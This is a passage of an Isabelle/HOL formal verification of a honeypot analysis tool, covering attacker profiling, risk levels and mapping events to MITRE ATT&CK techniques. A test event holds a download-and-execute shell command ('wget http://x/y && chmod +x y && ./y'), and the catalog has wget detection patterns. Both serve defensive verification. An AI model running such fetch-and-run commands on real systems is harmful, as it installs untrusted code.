     (\<exists>ds. intervals_of fa parse (concat (map (\<lambda>e. truthy (timestamp e)) evs)) = Inr ds)
   \<Longrightarrow> \<exists>a. analyze_automation fa parse evs = Inr a"
  by (auto simp: analyze_automation_def Let_def)

lemma build_attacker_profile_Inr:
  assumes "build_attacker_profile fa env utcnow1 utcnow2 ip = Inr p"
    and "c = correlate_by_ip env utcnow2 ip (Some (utcnow1 - 30 * 86400, utcnow2))"
  shows "analyze_automation fa (fromisoformat env) (cowrie (events c)) = Inr (is_automated (intelligence p))"
    and "is_persistent (intelligence p) = (total_events (summary c) > 10)"
    and "risk_assessment p =
           (if is_persistent (intelligence p) \<and> is_automated (intelligence p)
            then \<lparr>threat_level = ''high'', recommended_action = ''block''\<rparr>
            else if is_persistent (intelligence p)
            then \<lparr>threat_level = ''medium'', recommended_action = ''monitor_closely''\<rparr>
            else \<lparr>threat_level = ''low'', recommended_action = ''monitor''\<rparr>)"
  using assms
  by (auto simp: build_attacker_profile_def Let_def split: sum.splits)

lemma build_attacker_profile_returns:
  assumes "analyze_automation fa (fromisoformat env)
             (cowrie (events (correlate_by_ip env utcnow2 ip (Some (utcnow1 - 30 * 86400, utcnow2))))) = Inr a"
  shows "\<exists>p. build_attacker_profile fa env utcnow1 utcnow2 ip = Inr p"
  using assms by (simp add: build_attacker_profile_def Let_def)

text \<open>
  Claim C9 (as amended). For a profile that \<^verbatim>\<open>build_attacker_profile\<close> returns, whatever
  the float arithmetic: \<open>is_persistent\<close> holds exactly when the total event count exceeds
  10; \<open>is_automated\<close> holds exactly when the shell honeypot has more than five events, at
  least two of them time-stamped, and the variance of the differences of neighbouring time
  stamps, as the code computes it, is below 1; both flags give high and block, persistence
  alone gives medium and monitor closely, neither flag gives low and monitor. The profile
  is returned whenever the time stamps that are looked at parse. Twelve events of the shell
  honeypot whose computed variance is 0.2 (to within \<open>10^-9\<close>) give a persistent, automated
  profile with high and block.
\<close>

theorem attacker_profile_flags:
  assumes c: "c = correlate_by_ip env utcnow2 ip (Some (utcnow1 - 30 * 86400, utcnow2))"
    and ts: "ts = concat (map (\<lambda>e. truthy (timestamp e)) (cowrie (events c)))"
  shows "(\<forall>p. build_attacker_profile fa env utcnow1 utcnow2 ip = Inr p \<longrightarrow>
            is_persistent (intelligence p) = (total_events (summary c) > 10) \<and>
            is_automated (intelligence p) =
              (length (cowrie (events c)) > 5 \<and> length ts \<ge> 2 \<and>
               (\<exists>ds. intervals_of fa (fromisoformat env) ts = Inr ds \<and> variance fa ds < 1)) \<and>
            (is_persistent (intelligence p) \<and> is_automated (intelligence p) \<longrightarrow>
               threat_level (risk_assessment p) = ''high'' \<and>
               recommended_action (risk_assessment p) = ''block'') \<and>
            (is_persistent (intelligence p) \<and> \<not> is_automated (intelligence p) \<longrightarrow>
               threat_level (risk_assessment p) = ''medium'' \<and>
               recommended_action (risk_assessment p) = ''monitor_closely'') \<and>
            (\<not> is_persistent (intelligence p) \<and> \<not> is_automated (intelligence p) \<longrightarrow>
               threat_level (risk_assessment p) = ''low'' \<and>
               recommended_action (risk_assessment p) = ''monitor''))
       \<and> ((length (cowrie (events c)) \<le> 5 \<or> length ts < 2 \<or>
            (\<exists>ds. intervals_of fa (fromisoformat env) ts = Inr ds)) \<longrightarrow>
           (\<exists>p. build_attacker_profile fa env utcnow1 utcnow2 ip = Inr p))
       \<and> (\<forall>ds. length (cowrie (events c)) = 12 \<and> length ts \<ge> 2 \<and>
                intervals_of fa (fromisoformat env) ts = Inr ds \<and>
                \<bar>variance fa ds - 1 / 5\<bar> \<le> 1 / 10 ^ 9 \<longrightarrow>
             (\<exists>p. build_attacker_profile fa env utcnow1 utcnow2 ip = Inr p \<and>
                  is_persistent (intelligence p) \<and> is_automated (intelligence p) \<and>
                  threat_level (risk_assessment p) = ''high'' \<and>
                  recommended_action (risk_assessment p) = ''block''))"
proof -
  have flags: "is_persistent (intelligence p) = (total_events (summary c) > 10) \<and>
            is_automated (intelligence p) =
              (length (cowrie (events c)) > 5 \<and> length ts \<ge> 2 \<and>
               (\<exists>ds. intervals_of fa (fromisoformat env) ts = Inr ds \<and> variance fa ds < 1)) \<and>
            (is_persistent (intelligence p) \<and> is_automated (intelligence p) \<longrightarrow>
               threat_level (risk_assessment p) = ''high'' \<and>
               recommended_action (risk_assessment p) = ''block'') \<and>
            (is_persistent (intelligence p) \<and> \<not> is_automated (intelligence p) \<longrightarrow>
               threat_level (risk_assessment p) = ''medium'' \<and>
               recommended_action (risk_assessment p) = ''monitor_closely'') \<and>
            (\<not> is_persistent (intelligence p) \<and> \<not> is_automated (intelligence p) \<longrightarrow>
               threat_level (risk_assessment p) = ''low'' \<and>
               recommended_action (risk_assessment p) = ''monitor'')"
    if b: "build_attacker_profile fa env utcnow1 utcnow2 ip = Inr p" for p
  proof -
    note f = build_attacker_profile_Inr[OF b c]
    from analyze_automation_Inr[OF f(1)] ts
    have a: "is_automated (intelligence p) =
              (length (cowrie (events c)) > 5 \<and> length ts \<ge> 2 \<and>
               (\<exists>ds. intervals_of fa (fromisoformat env) ts = Inr ds \<and> variance fa ds < 1))"
      by simp
    from f(2) a f(3) show ?thesis by simp
  qed
  have returns: "\<exists>p. build_attacker_profile fa env utcnow1 utcnow2 ip = Inr p"
    if "length (cowrie (events c)) \<le> 5 \<or> length ts < 2 \<or>
            (\<exists>ds. intervals_of fa (fromisoformat env) ts = Inr ds)"
  proof -
    from that ts have "\<exists>a. analyze_automation fa (fromisoformat env) (cowrie (events c)) = Inr a"
      by (intro analyze_automation_returns) simp
    then show ?thesis using build_attacker_profile_returns c by blast
  qed
  have twelve: "\<exists>p. build_attacker_profile fa env utcnow1 utcnow2 ip = Inr p \<and>
                  is_persistent (intelligence p) \<and> is_automated (intelligence p) \<and>
                  threat_level (risk_assessment p) = ''high'' \<and>
                  recommended_action (risk_assessment p) = ''block''"
    if h: "length (cowrie (events c)) = 12 \<and> length ts \<ge> 2 \<and>
                intervals_of fa (fromisoformat env) ts = Inr ds \<and>
                \<bar>variance fa ds - 1 / 5\<bar> \<le> 1 / 10 ^ 9" for ds
  proof -
    from h returns obtain p where p: "build_attacker_profile fa env utcnow1 utcnow2 ip = Inr p"
      by blast
    have tot: "total_events (summary c) > 10"
      using h c by (simp add: correlate_by_ip_def Let_def)
    from h have "\<bar>variance fa ds - 1 / 5\<bar> \<le> 1 / 10 ^ 9" by blast
    moreover have "variance fa ds - 1 / 5 \<le> \<bar>variance fa ds - 1 / 5\<bar>" by (rule abs_ge_self)
    moreover have "(1 :: rat) / 10 ^ 9 < 4 / 5" by simp
    ultimately have "variance fa ds < 1" by linarith
    with flags[OF p] tot h p show ?thesis by auto
  qed
  from flags returns twelve show ?thesis by blast
qed

lemma fixed_store_cowrie:
  "cowrie (events (correlate_by_ip (fixed_store rc rd rs ra tbl) utcnow ip tr)) =
     (case rc of Inl err \<Rightarrow> [] | Inr evs \<Rightarrow> evs)"
  "dionaea (events (correlate_by_ip (fixed_store rc rd rs ra tbl) utcnow ip tr)) =
     (case rd of Inl err \<Rightarrow> [] | Inr evs \<Rightarrow> evs)"
  "snort (events (correlate_by_ip (fixed_store rc rd rs ra tbl) utcnow ip tr)) =
     (case rs of Inl err \<Rightarrow> [] | Inr evs \<Rightarrow> evs)"
  "fromisoformat (fixed_store rc rd rs ra tbl) = table_parser tbl"
  by (simp_all add: correlate_by_ip_def Let_def query_cowrie_by_ip_def query_dionaea_by_ip_def
        query_snort_by_ip_def cowrie_query_def dionaea_query_def snort_query_def fixed_store_def)

lemma length_twelve_events: "length twelve_events = 12"
  by (simp add: twelve_events_def twelve_stamps_def)

text \<open>
  The witness runs the doubles on the twelve events, and on the seven events, where the
  flag is set although the exact variance is 1.
\<close>

theorem attacker_profile_flags_witness:
  "(\<exists>p. build_attacker_profile ieee_double
          (fixed_store (Inr twelve_events) (Inr []) (Inr []) (Inr []) twelve_stamps)
          0 0 ''203.0.113.7'' = Inr p \<and>
       is_persistent (intelligence p) \<and> is_automated (intelligence p) \<and>
       threat_level (risk_assessment p) = ''high'' \<and>
       recommended_action (risk_assessment p) = ''block'') \<and>
   (\<exists>p. build_attacker_profile ieee_double
          (fixed_store (Inr seven_events) (Inr []) (Inr []) (Inr []) seven_stamps)
          0 0 ''203.0.113.7'' = Inr p \<and>
       is_automated (intelligence p))"
proof -
  let ?env = "fixed_store (Inr twelve_events) (Inr []) (Inr []) (Inr []) twelve_stamps"
  let ?c = "correlate_by_ip ?env 0 ''203.0.113.7'' (Some (0 - 30 * 86400, 0))"
  let ?ts = "concat (map (\<lambda>e. truthy (timestamp e)) (cowrie (events ?c)))"
  let ?ds = "[round_double 3, round_double 1, round_double (23 / 10), round_double (17 / 10),
      round_double (21 / 10), round_double (19 / 10), round_double 2, round_double 2,
      round_double 2, round_double 2, round_double 2]"
  have ev: "cowrie (events ?c) = twelve_events" by (simp add: fixed_store_cowrie)
  have ts: "?ts = map fst twelve_stamps" unfolding ev by (rule twelve_ts)
  have h1: "length (cowrie (events ?c)) = 12" unfolding ev by (rule length_twelve_events)
  have h2: "length ?ts \<ge> 2" unfolding ts by (simp add: twelve_stamps_def)
  have h3: "intervals_of ieee_double (fromisoformat ?env) ?ts = Inr ?ds"
    unfolding ts fixed_store_cowrie(4) twelve_intervals ieee_quotient by (rule refl)
  have h4: "\<bar>variance ieee_double ?ds - 1 / 5\<bar> \<le> 1 / 10 ^ 9"
    unfolding twelve_variance by simp
  from h1 h2 h3 h4
  have h: "length (cowrie (events ?c)) = 12 \<and> length ?ts \<ge> 2 \<and>
           intervals_of ieee_double (fromisoformat ?env) ?ts = Inr ?ds \<and>
           \<bar>variance ieee_double ?ds - 1 / 5\<bar> \<le> 1 / 10 ^ 9"
    by blast
  from attacker_profile_flags[OF refl refl, of ieee_double ?env 0 0 "''203.0.113.7''"] h
  have first: "\<exists>p. build_attacker_profile ieee_double ?env 0 0 ''203.0.113.7'' = Inr p \<and>
       is_persistent (intelligence p) \<and> is_automated (intelligence p) \<and>
       threat_level (risk_assessment p) = ''high'' \<and>
       recommended_action (risk_assessment p) = ''block''"
    by blast
  let ?env7 = "fixed_store (Inr seven_events) (Inr []) (Inr []) (Inr []) seven_stamps"
  let ?c7 = "correlate_by_ip ?env7 0 ''203.0.113.7'' (Some (0 - 30 * 86400, 0))"
  let ?ts7 = "concat (map (\<lambda>e. truthy (timestamp e)) (cowrie (events ?c7)))"
  let ?ds7 = "[round_double (3 / 10), round_double (23 / 10), round_double (3 / 10),
      round_double (23 / 10), round_double (3 / 10), round_double (23 / 10)]"
  have ev7: "cowrie (events ?c7) = seven_events" by (simp add: fixed_store_cowrie)
  have ts7: "?ts7 = map fst seven_stamps" unfolding ev7 by (rule seven_ts)
  have g1: "length (cowrie (events ?c7)) > 5"
    unfolding ev7 by (simp add: seven_events_def seven_stamps_def)
  have g2: "length ?ts7 \<ge> 2" unfolding ts7 by (simp add: seven_stamps_def)
  have g3: "intervals_of ieee_double (fromisoformat ?env7) ?ts7 = Inr ?ds7"
    unfolding ts7 fixed_store_cowrie(4) seven_intervals ieee_quotient by (rule refl)
  have g4: "variance ieee_double ?ds7 < 1" unfolding seven_variance by simp
  note th7 = attacker_profile_flags[OF refl refl, of ieee_double ?env7 0 0 "''203.0.113.7''"]
  from th7 g3 obtain p where p: "build_attacker_profile ieee_double ?env7 0 0 ''203.0.113.7'' = Inr p"
    by blast
  from th7 p have "is_automated (intelligence p) =
      (length (cowrie (events ?c7)) > 5 \<and> length ?ts7 \<ge> 2 \<and>
       (\<exists>ds. intervals_of ieee_double (fromisoformat ?env7) ?ts7 = Inr ds \<and>
             variance ieee_double ds < 1))"
    by blast
  with g1 g2 g3 g4 have "is_automated (intelligence p)" by blast
  with p have second: "\<exists>p. build_attacker_profile ieee_double ?env7 0 0 ''203.0.113.7'' = Inr p \<and>
       is_automated (intelligence p)"
    by blast
  from first second show ?thesis by simp
qed

text \<open>
  The claim as written fails for two time-stamped events of the shell honeypot: one
  difference, variance 0, yet the flag stays false, since the code looks at the timing
  only when the source has more than five events.
\<close>

theorem automation_needs_six_events_counterexample:
  "spec_is_automated ieee_double (table_parser twelve_stamps) two_events \<and>
   (\<exists>p. build_attacker_profile ieee_double
           (fixed_store (Inr two_events) (Inr []) (Inr []) (Inr []) twelve_stamps)
           0 0 ''203.0.113.7'' = Inr p \<and>
        is_automated (intelligence p) = False)"
proof -
  have v: "variance ieee_double [round_double 3] < 1" unfolding two_variance by simp
  have s: "spec_is_automated ieee_double (table_parser twelve_stamps) two_events"
    unfolding spec_is_automated_def Let_def two_ts two_intervals ieee_quotient using v by simp
  have l: "length two_events = 2"
    by (simp add: two_events_def length_twelve_events)
  have a: "analyze_automation ieee_double (table_parser twelve_stamps) two_events = Inr False"
    by (simp add: analyze_automation_def l)
  have "\<exists>p. build_attacker_profile ieee_double
           (fixed_store (Inr two_events) (Inr []) (Inr []) (Inr []) twelve_stamps)
           0 0 ''203.0.113.7'' = Inr p \<and> is_automated (intelligence p) = False"
    by (simp add: build_attacker_profile_def Let_def fixed_store_cowrie a)
  with s show ?thesis by simp
qed

subsection \<open>Mapping one event\<close>

lemma first_matching_None: "first_matching ps blob = None \<longleftrightarrow> (\<forall>p \<in> set ps. \<not> re_search True p blob)"
  by (induction ps) auto

lemma first_matching_Some:
  "first_matching ps blob = Some p \<Longrightarrow>
     \<exists>ps1 ps2. ps = ps1 @ p # ps2 \<and> (\<forall>q \<in> set ps1. \<not> re_search True q blob) \<and> re_search True p blob"
proof (induction ps)
  case Nil
  then show ?case by simp
next
  case (Cons a ps)
  show ?case
  proof (cases "re_search True a blob")
    case True
    with Cons.prems have "a = p" by simp
    with True have "a # ps = [] @ p # ps \<and> (\<forall>q \<in> set []. \<not> re_search True q blob) \<and> re_search True p blob"
      by simp
    then show ?thesis by blast
  next
    case False
    with Cons.prems have "first_matching ps blob = Some p" by simp
    from Cons.IH[OF this] obtain ps1 ps2 where
      h: "ps = ps1 @ p # ps2" "\<forall>q \<in> set ps1. \<not> re_search True q blob" "re_search True p blob"
      by blast
    from h False have "a # ps = (a # ps1) @ p # ps2 \<and> (\<forall>q \<in> set (a # ps1). \<not> re_search True q blob) \<and> re_search True p blob"
      by simp
    then show ?thesis by blast
  qed
qed

text \<open>The patterns behind the first match have no say in the result.\<close>

lemma first_matching_prefix:
  "(\<forall>q \<in> set ps1. \<not> re_search True q blob) \<Longrightarrow> re_search True p blob \<Longrightarrow>
     first_matching (ps1 @ p # ps2) blob = Some p"
  by (induction ps1) auto

lemma record_match_cases:
  assumes "record_match tid td p m = Inr m'"
  shows "(tid \<in> set (techniques m) \<and> m' = m) \<or>
         (tid \<notin> set (techniques m) \<and>
          (\<exists>tn. map_of TACTICS (tech_tactic td) = Some tn \<and>
             techniques m' = techniques m @ [tid] \<and>
             tactics m' = (if tech_tactic td \<in> set (tactics m) then tactics m
                           else tactics m @ [tech_tactic td]) \<and>
             technique_details m' = technique_details m @
               [\<lparr>technique_id = tid, technique_name = tech_name td, tactic_id = tech_tactic td,
                 tactic_name = tn, matched_pattern = p\<rparr>]))"
  using assms
  by (auto simp: record_match_def Let_def split: if_splits option.splits)

lemma record_match_inv:
  assumes r: "record_match tid td p m = Inr m'" and inv: "mapped_inv cat blob m"
    and mem: "(tid, td) \<in> set cat" and fm: "first_matching (tech_patterns td) blob = Some p"
  shows "mapped_inv cat blob m'"
proof -
  from record_match_cases[OF r] show ?thesis
  proof
    assume "tid \<in> set (techniques m) \<and> m' = m"
    with inv show ?thesis by simp
  next
    assume a: "tid \<notin> set (techniques m) \<and>
          (\<exists>tn. map_of TACTICS (tech_tactic td) = Some tn \<and>
             techniques m' = techniques m @ [tid] \<and>
             tactics m' = (if tech_tactic td \<in> set (tactics m) then tactics m
                           else tactics m @ [tech_tactic td]) \<and>
             technique_details m' = technique_details m @
               [\<lparr>technique_id = tid, technique_name = tech_name td, tactic_id = tech_tactic td,
                 tactic_name = tn, matched_pattern = p\<rparr>])"
    then obtain tn where tn: "map_of TACTICS (tech_tactic td) = Some tn"
      and t: "techniques m' = techniques m @ [tid]"
      and c: "tactics m' = (if tech_tactic td \<in> set (tactics m) then tactics m
                           else tactics m @ [tech_tactic td])"
      and d: "technique_details m' = technique_details m @
               [\<lparr>technique_id = tid, technique_name = tech_name td, tactic_id = tech_tactic td,
                 tactic_name = tn, matched_pattern = p\<rparr>]"
      by blast
    from a have fresh: "tid \<notin> set (techniques m)" by simp
    have new_ok: "detail_ok cat blob \<lparr>technique_id = tid, technique_name = tech_name td,
        tactic_id = tech_tactic td, tactic_name = tn, matched_pattern = p\<rparr>"
      unfolding detail_ok_def using mem fm tn by auto
    have 1: "map technique_id (technique_details m') = techniques m'"
      using inv t d by (simp add: mapped_inv_def)
    have 2: "set (tactics m') = tactic_id ` set (technique_details m')"
      using inv c d by (auto simp: mapped_inv_def)
    have 3: "distinct (techniques m')" using inv t fresh by (simp add: mapped_inv_def)
    have 4: "distinct (tactics m')" using inv c by (simp add: mapped_inv_def)
    have 5: "list_all (detail_ok cat blob) (technique_details m')"
      using inv d new_ok by (simp add: mapped_inv_def)
    from 1 2 3 4 5 show ?thesis by (simp add: mapped_inv_def)
  qed
qed

lemma map_loop_inv:
  "map_loop cat' blob m = Inr m' \<Longrightarrow> mapped_inv cat blob m \<Longrightarrow> set cat' \<subseteq> set cat \<Longrightarrow>
     mapped_inv cat blob m'"
proof (induction cat' blob m rule: map_loop.induct)
  case (1 blob m)
  then show ?case by simp
next
  case (2 tid td rest blob m)
  show ?case
  proof (cases "first_matching (tech_patterns td) blob")
    case None
    with 2 show ?thesis by simp
  next
    case (Some p)
    with "2.prems"(1) obtain m1 where m1: "record_match tid td p m = Inr m1"
      and rest: "map_loop rest blob m1 = Inr m'"
      by (auto split: sum.splits)
    from "2.prems"(3) have mem: "(tid, td) \<in> set cat" by simp
    have "mapped_inv cat blob m1"
      by (rule record_match_inv[OF m1 "2.prems"(2) mem Some])
    with "2.IH"(2)[OF Some m1 rest] "2.prems"(3) show ?thesis by simp
  qed
qed

lemma map_loop_techniques:
  "map_loop cat blob m = Inr m' \<Longrightarrow>
     set (techniques m') =
       set (techniques m) \<union> {tid. \<exists>td. (tid, td) \<in> set cat \<and> first_matching (tech_patterns td) blob \<noteq> None}"
proof (induction cat blob m rule: map_loop.induct)
  case (1 blob m)
  then show ?case by simp
next
  case (2 tid td rest blob m)
  show ?case
  proof (cases "first_matching (tech_patterns td) blob")
    case None
    with 2 show ?thesis by auto
  next
    case (Some p)
    with "2.prems"(1) obtain m1 where m1: "record_match tid td p m = Inr m1"
      and rest: "map_loop rest blob m1 = Inr m'"
      by (auto split: sum.splits)
    from record_match_cases[OF m1] have s: "set (techniques m1) = insert tid (set (techniques m))"
      by auto
    from "2.IH"(2)[OF Some m1 rest] s Some show ?thesis by auto
  qed
qed

lemma map_loop_total:
  "\<forall>(tid, td) \<in> set cat. map_of TACTICS (tech_tactic td) \<noteq> None \<Longrightarrow> \<exists>m'. map_loop cat blob m = Inr m'"
proof (induction cat blob m rule: map_loop.induct)
  case (1 blob m)
  then show ?case by simp
next
  case (2 tid td rest blob m)
  from "2.prems" obtain tn where tn: "map_of TACTICS (tech_tactic td) = Some tn" by auto
  from "2.prems" have restok: "\<forall>(tid, td) \<in> set rest. map_of TACTICS (tech_tactic td) \<noteq> None" by simp
  show ?case
  proof (cases "first_matching (tech_patterns td) blob")
    case None
    with "2.IH"(1)[OF None restok] show ?thesis by simp
  next
    case (Some p)
    from tn have "\<exists>m1. record_match tid td p m = Inr m1"
      by (simp add: record_match_def Let_def)
    then obtain m1 where m1: "record_match tid td p m = Inr m1" by blast
    from "2.IH"(2)[OF Some m1 restok] Some m1 show ?thesis by simp
  qed
qed

lemma map_loop_no_match:
  "\<forall>(tid, td) \<in> set cat. first_matching (tech_patterns td) blob = None \<Longrightarrow> map_loop cat blob m = Inr m"
  by (induction cat blob m rule: map_loop.induct) auto

lemma catalog_tactics_known:
  "\<forall>(tid, td) \<in> set TECHNIQUE_MAPPINGS. map_of TACTICS (tech_tactic td) \<noteq> None"
  by (simp add: TECHNIQUE_MAPPINGS_def TACTICS_def)

lemma empty_mapped_inv: "mapped_inv cat blob empty_mapped"
  by (simp add: mapped_inv_def empty_mapped_def)

lemma map_event_returns: "\<exists>m. map_event e = Inr m"
  unfolding map_event_def by (rule map_loop_total[OF catalog_tactics_known])

lemma map_event_inv:
  "map_event e = Inr m \<Longrightarrow> mapped_inv TECHNIQUE_MAPPINGS (combined_text e) m"
  unfolding map_event_def by (rule map_loop_inv[OF _ empty_mapped_inv]) auto

lemma map_event_techniques:
  "map_event e = Inr m \<Longrightarrow>
     tid \<in> set (techniques m) \<longleftrightarrow>
       (\<exists>td. (tid, td) \<in> set TECHNIQUE_MAPPINGS \<and>
             first_matching (tech_patterns td) (combined_text e) \<noteq> None)"
  unfolding map_event_def by (auto dest!: map_loop_techniques simp: empty_mapped_def)

lemma detail_ok_first:
  assumes "detail_ok cat blob d"
  shows "\<exists>td ps1 ps2. (technique_id d, td) \<in> set cat \<and>
           technique_name d = tech_name td \<and> tactic_id d = tech_tactic td \<and>
           map_of TACTICS (tactic_id d) = Some (tactic_name d) \<and>
           tech_patterns td = ps1 @ matched_pattern d # ps2 \<and>
           (\<forall>q \<in> set ps1. \<not> re_search True q blob) \<and>
           re_search True (matched_pattern d) blob \<and>
           (\<forall>ps'. first_matching (ps1 @ matched_pattern d # ps') blob = Some (matched_pattern d))"
proof -
  from assms obtain td where td: "(technique_id d, td) \<in> set cat" "technique_name d = tech_name td"
    "tactic_id d = tech_tactic td" "map_of TACTICS (tactic_id d) = Some (tactic_name d)"
    "first_matching (tech_patterns td) blob = Some (matched_pattern d)"
    unfolding detail_ok_def by blast
  from first_matching_Some[OF td(5)] obtain ps1 ps2 where
    "tech_patterns td = ps1 @ matched_pattern d # ps2"
    "\<forall>q \<in> set ps1. \<not> re_search True q blob" "re_search True (matched_pattern d) blob"
    by blast
  moreover from this
  have "\<forall>ps'. first_matching (ps1 @ matched_pattern d # ps') blob = Some (matched_pattern d)"
    by (simp add: first_matching_prefix)
  ultimately show ?thesis using td by blast
qed

text \<open>
  Claim C5. For every event \<^verbatim>\<open>map_event\<close> returns, and in what it returns every technique
  stands once and every tactic stands once; the details list the techniques in order; the
  pattern of a detail is the first of its technique's patterns found in the text, whatever
  patterns follow it; and when no pattern of the catalog is found the three collections
  are empty.
\<close>

theorem map_event_records_once:
  "\<exists>m. map_event e = Inr m \<and>
       distinct (techniques m) \<and> distinct (tactics m) \<and>
       map technique_id (technique_details m) = techniques m \<and>
       set (tactics m) = tactic_id ` set (technique_details m) \<and>
       (\<forall>d \<in> set (technique_details m). \<exists>td ps1 ps2.
           (technique_id d, td) \<in> set TECHNIQUE_MAPPINGS \<and>
           technique_name d = tech_name td \<and> tactic_id d = tech_tactic td \<and>
           map_of TACTICS (tactic_id d) = Some (tactic_name d) \<and>
           tech_patterns td = ps1 @ matched_pattern d # ps2 \<and>
           (\<forall>q \<in> set ps1. \<not> re_search True q (combined_text e)) \<and>
           re_search True (matched_pattern d) (combined_text e) \<and>
           (\<forall>ps'. first_matching (ps1 @ matched_pattern d # ps') (combined_text e) =
                    Some (matched_pattern d))) \<and>
       ((\<forall>(tid, td) \<in> set TECHNIQUE_MAPPINGS. \<forall>p \<in> set (tech_patterns td).
            \<not> re_search True p (combined_text e)) \<longrightarrow>
        m = empty_mapped)"
proof -
  from map_event_returns obtain m where m: "map_event e = Inr m" by blast
  note inv = map_event_inv[OF m]
  have details: "\<forall>d \<in> set (technique_details m). \<exists>td ps1 ps2.
           (technique_id d, td) \<in> set TECHNIQUE_MAPPINGS \<and>
           technique_name d = tech_name td \<and> tactic_id d = tech_tactic td \<and>
           map_of TACTICS (tactic_id d) = Some (tactic_name d) \<and>
           tech_patterns td = ps1 @ matched_pattern d # ps2 \<and>
           (\<forall>q \<in> set ps1. \<not> re_search True q (combined_text e)) \<and>
           re_search True (matched_pattern d) (combined_text e) \<and>
           (\<forall>ps'. first_matching (ps1 @ matched_pattern d # ps') (combined_text e) =
                    Some (matched_pattern d))"
  proof
    fix d assume "d \<in> set (technique_details m)"
    with inv have "detail_ok TECHNIQUE_MAPPINGS (combined_text e) d"
      by (simp add: mapped_inv_def list_all_iff)
    then show "\<exists>td ps1 ps2.
           (technique_id d, td) \<in> set TECHNIQUE_MAPPINGS \<and>
           technique_name d = tech_name td \<and> tactic_id d = tech_tactic td \<and>
           map_of TACTICS (tactic_id d) = Some (tactic_name d) \<and>
           tech_patterns td = ps1 @ matched_pattern d # ps2 \<and>
           (\<forall>q \<in> set ps1. \<not> re_search True q (combined_text e)) \<and>
           re_search True (matched_pattern d) (combined_text e) \<and>
           (\<forall>ps'. first_matching (ps1 @ matched_pattern d # ps') (combined_text e) =
                    Some (matched_pattern d))"
      by (rule detail_ok_first)
  qed
  have none: "m = empty_mapped"
    if "\<forall>(tid, td) \<in> set TECHNIQUE_MAPPINGS. \<forall>p \<in> set (tech_patterns td).
            \<not> re_search True p (combined_text e)"
  proof -
    from that have "\<forall>(tid, td) \<in> set TECHNIQUE_MAPPINGS.
        first_matching (tech_patterns td) (combined_text e) = None"
      by (auto simp: first_matching_None)
    from map_loop_no_match[OF this] m show ?thesis by (simp add: map_event_def)
  qed
  from inv have "distinct (techniques m)" "distinct (tactics m)"
    "map technique_id (technique_details m) = techniques m"
    "set (tactics m) = tactic_id ` set (technique_details m)"
    by (simp_all add: mapped_inv_def)
  with m details none show ?thesis by blast
qed


lemma wget_text: "combined_text wget_event = '' wget http://x/y && chmod +x y && ./y ''"
  by (simp add: combined_text_def wget_event_def wget_input_def empty_event_def lower_def
        lower_char_ascii)

lemma wget_event_mapping:
  "map_event wget_event =
     Inr \<lparr>tactics = [''TA0011''], techniques = [''T1071'', ''T1105''],
          technique_details =
            [\<lparr>technique_id = ''T1071'', technique_name = ''Application Layer Protocol'',
              tactic_id = ''TA0011'', tactic_name = ''Command and Control'',
              matched_pattern = lit ''wget''\<rparr>,
             \<lparr>technique_id = ''T1105'', technique_name = ''Ingress Tool Transfer'',
              tactic_id = ''TA0011'', tactic_name = ''Command and Control'',
              matched_pattern = seq [lit ''wget'', One Ws, lit ''http'']\<rparr>]\<rparr>"
  by (simp add: map_event_def wget_text TECHNIQUE_MAPPINGS_def TACTICS_def empty_mapped_def
        record_match_def Let_def lower_char_ascii is_space_def)

lemma blank_text: "combined_text empty_event = ''  ''"
  by (simp add: combined_text_def empty_event_def lower_def lower_char_ascii)

lemma no_match_blank:
  "\<forall>(tid, td) \<in> set TECHNIQUE_MAPPINGS. \<forall>p \<in> set (tech_patterns td). \<not> re_search True p ''  ''"
  by (simp add: TECHNIQUE_MAPPINGS_def lower_char_ascii is_space_def)

theorem map_event_records_once_witness:
  "map_event empty_event = Inr empty_mapped \<and>
   (\<exists>m. map_event wget_event = Inr m \<and> techniques m = [''T1071'', ''T1105''] \<and>
        tactics m = [''TA0011''] \<and> distinct (techniques m) \<and> distinct (tactics m) \<and>
        map technique_id (technique_details m) = techniques m)"
proof -
  from map_event_records_once[of empty_event] no_match_blank
  have 1: "map_event empty_event = Inr empty_mapped"
    unfolding blank_text by blast
  from map_event_records_once[of wget_event]
  obtain m where m: "map_event wget_event = Inr m" "distinct (techniques m)"
    "distinct (tactics m)" "map technique_id (technique_details m) = techniques m"
    by blast
  from m(1) have "techniques m = [''T1071'', ''T1105''] \<and> tactics m = [''TA0011'']"
    unfolding wget_event_mapping by auto
  with 1 m show ?thesis by blast
qed

subsection \<open>The mapping example\<close>

lemma catalog_keys_distinct: "distinct (map fst TECHNIQUE_MAPPINGS)"
  by (simp add: TECHNIQUE_MAPPINGS_def)

lemma technique_recorded_iff:
  assumes m: "map_event e = Inr m" and td: "map_of TECHNIQUE_MAPPINGS tid = Some td"
  shows "tid \<in> set (techniques m) \<longleftrightarrow>
           list_ex (\<lambda>p. re_search True p (combined_text e)) (tech_patterns td)"
proof -
  have u: "(tid, td') \<in> set TECHNIQUE_MAPPINGS \<longleftrightarrow> td' = td" for td'
    using td map_of_is_SomeI[OF catalog_keys_distinct, of tid td'] map_of_SomeD[OF td] by auto
  have "tid \<in> set (techniques m) \<longleftrightarrow> first_matching (tech_patterns td) (combined_text e) \<noteq> None"
    unfolding map_event_techniques[OF m] using u by auto
  then show ?thesis by (simp add: first_matching_None list_ex_iff)
qed

lemma technique_recorded_detail:
  assumes m: "map_event e = Inr m" and td: "map_of TECHNIQUE_MAPPINGS tid = Some td"
    and mem: "tid \<in> set (techniques m)"
  shows "tech_tactic td \<in> set (tactics m) \<and>
         list_ex (\<lambda>d. technique_id d = tid \<and> technique_name d = tech_name td \<and>
                      tactic_id d = tech_tactic td \<and>
                      map_of TACTICS (tech_tactic td) = Some (tactic_name d))
                 (technique_details m)"
proof -
  note inv = map_event_inv[OF m]
  from inv mem have "tid \<in> technique_id ` set (technique_details m)"
    by (metis mapped_inv_def set_map)
  then obtain d where d: "d \<in> set (technique_details m)" "technique_id d = tid" by auto
  from inv d(1) have "detail_ok TECHNIQUE_MAPPINGS (combined_text e) d"
    by (simp add: mapped_inv_def list_all_iff)
  then obtain td' where td': "(technique_id d, td') \<in> set TECHNIQUE_MAPPINGS"
    "technique_name d = tech_name td'" "tactic_id d = tech_tactic td'"
    "map_of TACTICS (tactic_id d) = Some (tactic_name d)"
    unfolding detail_ok_def by blast
  from td'(1) d(2) td have "td' = td"
    using map_of_is_SomeI[OF catalog_keys_distinct, of tid td'] by auto
  with td' d have ok: "technique_id d = tid \<and> technique_name d = tech_name td \<and>
       tactic_id d = tech_tactic td \<and> map_of TACTICS (tech_tactic td) = Some (tactic_name d)"
    by simp
